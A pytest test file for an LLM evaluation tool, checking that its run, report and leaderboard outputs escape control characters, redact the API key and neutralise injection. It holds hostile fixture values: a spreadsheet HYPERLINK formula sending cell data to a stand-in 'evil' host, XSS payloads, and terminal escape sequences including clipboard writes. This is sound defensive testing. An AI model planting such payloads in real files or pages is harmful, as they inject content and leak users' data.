"""Every byte a person sees is harmless (issue 46, items 2 and 3): one hostile display name, answer, server error
and config.yaml through `run`, `report` and `leaderboard` (md, csv, json, tex, png); every byte written and printed
is searched for control characters, the key in use, formulas at the start of a CSV cell and unescaped HTML."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
import yaml

from longform_eval.common.shown import csv_cell, harmless, label_problem, markdown_cell
from longform_eval.inference.cli import main

from .conftest import chat_run, released, write_replay
from .fault_server import FaultServer

KEY = "sk-SECRETKEY-abc123X"
NAME = '=HYPERLINK("http://evil/?x="&A1,"x") <img src=x onerror=alert(1)>'
JUDGE_NAME = "@SUM(1)|<script>alert(1)</script>"
ANSWER = f"my key is {KEY} \x1b]0;TITLE\x07\x1b[2J\x1b[31mred\x1b]52;c;aGVsbG8=\x07 \u202eevil\u202c \x85 end"
# C0 but tab and line feed, DEL, C1, bidirectional controls, line and paragraph separators
UNSAFE_BYTES = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]")
VERDICT6 = json.dumps([{"checklist_id": i, "reason": "solid", "evaluation_score": 0.75} for i in range(6)])


@pytest.fixture
def key_in_use(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)


@pytest.fixture
def hostile_run(shared_data, tmp_path, key_in_use, capsys) -> tuple[Path, str]:
    """A finished run: answers holding the key and escape sequences, a formula and HTML as display names."""
    ids = [r["id"] for r in released(shared_data, "generations", "gpt4o_0806") if r["id"].startswith("chat")][:3]
    answers = write_replay(tmp_path / "answers.jsonl", ((i, ANSWER) for i in ids))
    verdicts = write_replay(tmp_path / "verdicts.jsonl", ((i, VERDICT6) for i in ids))
    out = tmp_path / "runs" / "hostile"
    args = chat_run(3, f"replay:{answers}", f"replay:{verdicts}", str(out), "--name", NAME, "--judge-name", JUDGE_NAME)
    assert main(args) == 0
    return out, printed(capsys)


def printed(capsys) -> str:
    captured = capsys.readouterr()
    return captured.out + captured.err


def written_texts(folder: Path) -> dict[Path, str]:
    return {
        path: path.read_bytes().decode("utf-8") for path in folder.rglob("*") if path.is_file() and not is_binary(path)
    }


def is_binary(path: Path) -> bool:
    return path.suffix in (".png", ".pdf", ".gz")


def assert_harmless(texts: dict[str, str]) -> None:
    for where, text in texts.items():
        found = UNSAFE_BYTES.search(text)
        assert found is None, f"{where}: {found.group()!r} at {found.start()}"
        assert KEY not in text and KEY[:7] + "SECRET" not in text, where


def test_run_report_and_leaderboard_write_and_print_nothing_harmful(hostile_run, tmp_path, capsys):
    out, run_printed = hostile_run
    assert main(["report", str(out)]) == 0
    report_printed = printed(capsys)
    board = tmp_path / "board"
    assert main(["leaderboard", str(out), "--out", str(board)]) == 0
    board_printed = printed(capsys)
    texts = {str(p): t for p, t in (written_texts(out) | written_texts(board)).items()}
    assert_harmless(texts | {"run printed": run_printed, "report printed": report_printed, "board": board_printed})
    for row in csv.reader(io.StringIO((board / "leaderboard.csv").read_text())):
        for cell in row:
            assert not cell.startswith(("=", "+", "@")) and not re.match(r"-[^\d]", cell), cell
    for name in ("leaderboard.md", "leaderboard.tex"):
        text = (board / name).read_text()
        assert "<img" not in text and "<script" not in text, name
    report = (out / "report.md").read_text()
    assert "<img" not in report and "&lt;img src=x onerror=alert(1)&gt;" in report.splitlines()[0]
    assert "\\u001b]0;TITLE" in (out / "generations.jsonl").read_text()  # the answer kept, escaped by JSON


def test_a_server_error_with_escape_sequences_is_printed_escaped(gpt4o_replays, tmp_path, capsys):
    generations, _ = gpt4o_replays
    out = tmp_path / "run"
    with FaultServer(ok_text=lambda prompt: VERDICT6) as server:
        server.fail_with = "escape_400"
        args = chat_run(1, f"replay:{generations}", "openai:judge", str(out), "--judge-arg", f"base_url={server.url}")
        assert main([*args, "--judge-arg", "backoff_base=0.01", "--judge-arg", "max_attempts=2"]) == 1
    err = printed(capsys)
    assert "\x1b" not in err and "\x07" not in err and "\u202e" not in err and "\x9b" not in err
    assert "bad \\u001b]0;TITLE\\u0007\\u001b[2J" in err


@pytest.mark.parametrize("name", ["a\rb", "a\u2028b", "a\x1b[31mb", "a\u202eb", " ", "x" * 201, KEY])
def test_a_hostile_display_name_in_config_yaml_is_refused_naming_the_file(hostile_run, capsys, name):
    out, _ = hostile_run
    config = yaml.safe_load((out / "config.yaml").read_text())
    (out / "config.yaml").write_text(yaml.safe_dump(config | {"name": name}, allow_unicode=True))
    assert main(["report", str(out)]) == 2
    err = printed(capsys)
    assert str(out / "config.yaml") in err and "name" in err
    assert KEY not in err and "\x1b" not in err and "\u202e" not in err


@pytest.mark.parametrize("name", ["a\x1b[31mb", KEY, "a\u2066b"])
def test_a_hostile_display_name_flag_is_refused_before_anything_is_written(
    gpt4o_replays, tmp_path, key_in_use, capsys, name
):
    generations, verdicts = gpt4o_replays
    out = tmp_path / "run"
    assert main(chat_run(1, f"replay:{generations}", f"replay:{verdicts}", str(out), "--name", name)) == 2
    assert not out.exists()
    err = printed(capsys)
    assert "--name" in err and KEY not in err and "\x1b" not in err


def test_the_shared_escapes():
    assert harmless("a\x1b[2Jb\tc\nd\u202e\x85") == "a\\u001b[2Jb\tc\nd\\u202e\\u0085"
    assert json.loads('"' + harmless("\u2028\u202e") + '"') == "\u2028\u202e"  # in a JSON string: the same text
    assert csv_cell('=HYPERLINK("x")') == '\'=HYPERLINK("x")' and csv_cell(-1.5) == -1.5
    assert markdown_cell("<b>|x</b>") == "&lt;b&gt;\\|x&lt;/b&gt;"
    assert label_problem("ok name") is None and "control" in label_problem("a\x00b")
